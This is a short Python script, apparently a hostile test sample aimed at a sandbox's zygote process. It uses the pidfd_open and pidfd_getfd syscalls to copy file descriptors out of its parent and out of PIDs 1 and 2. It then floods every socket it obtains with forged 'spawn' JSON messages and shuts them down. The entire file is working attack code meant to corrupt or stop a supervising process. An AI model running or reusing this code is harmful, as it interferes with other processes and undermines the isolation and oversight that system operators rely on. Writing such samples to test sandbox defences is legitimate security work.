# Takes copies of its zygote's file descriptors (pidfd_open + pidfd_getfd) and writes
# garbage into every socket among them, then shuts them: the control socket would make
# the zygote misread or stop. The gates below are the reference's.
import ctypes
import os
import socket

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
for _pid in {os.getppid(), 1, 2}:
    _pidfd = _libc.syscall(434, _pid, 0)  # pidfd_open
    if _pidfd < 0:
        continue
    for _fd in range(64):
        _copy = _libc.syscall(438, _pidfd, _fd, 0)  # pidfd_getfd
        if _copy < 0:
            continue
        try:
            _sock = socket.socket(fileno=_copy)
            _sock.send(b'{"op": "spawn", "scratch": "/"}' * 8)
            _sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
